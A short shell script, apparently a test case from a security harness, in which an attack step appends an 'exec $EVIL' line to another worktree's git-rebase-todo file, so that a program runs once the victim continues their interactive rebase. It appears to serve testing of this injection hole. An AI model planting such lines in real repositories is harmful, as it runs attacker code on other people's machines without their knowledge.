# A foreign worktree's rebase in progress gets a line that runs a program.
prepare() {
    git -C "$VICTIM" stash -q -u
    git -C "$VICTIM" reset -q --hard feature
    GIT_SEQUENCE_EDITOR="sed -i 1s/^pick/edit/" git -C "$VICTIM" rebase -q -i HEAD~2
}
attack() {
    evil
    echo "exec $EVIL" >>"$ENTRY/rebase-merge/git-rebase-todo"
}
human() {
    git -C "$VICTIM" rebase --continue
}
harmed() {
    executed
}
